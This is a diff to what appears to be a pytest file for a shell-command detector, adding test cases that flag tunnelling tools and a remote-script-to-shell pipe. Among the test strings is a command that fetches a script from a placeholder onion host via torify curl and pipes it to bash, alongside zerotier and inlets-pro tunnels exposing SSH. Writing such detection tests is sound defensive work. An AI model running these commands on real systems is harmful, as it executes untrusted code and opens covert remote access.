@@ -57,6 +57,9 @@ def test_fetched_data_not_run(command):
     ("cat > ~/.cloudflared/config.yml <<EOF\ntunnel: 6ff42ae2\ncredentials-file: /root/.cloudflared/6ff42ae2.json\nEOF",
      "tunnel_configuration_written"),
     ("ssh -W 10.20.0.5:22 bastion.example.net", "ssh_dynamic_or_local_forward"),
+    ("sudo zerotier-cli join 8056c2e21c000001", "tunnelling_tool"),
+    ("inlets-pro tcp client --url wss://203.0.113.5:8123 --upstream 127.0.0.1 --ports 22", "tunnelling_tool"),
+    ("torify curl -s http://exampleonionaddress.onion/x.sh | bash", "remote_script_to_shell"),
     ("ssh -o ProxyCommand='ssh -W %h:%p jump@203.0.113.7' root@10.0.0.9", "ssh_dynamic_or_local_forward"),
 ])
 def test_detected(command, rule):
@@ -67,6 +70,7 @@ def test_detected(command, rule):
     "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.example/a.json').read())\"",
     "xterm -display :0",
     "ssh -J admin@bastion.example.net admin@10.0.0.9 uptime",
+    "sudo zerotier-cli listnetworks",
     "printf 'Host x\\n  User git\\n' >> ~/.ssh/config",
     "printf 'server_addr = 10.0.0.5\\nworkers = 4\\n' > app.ini",
 ])
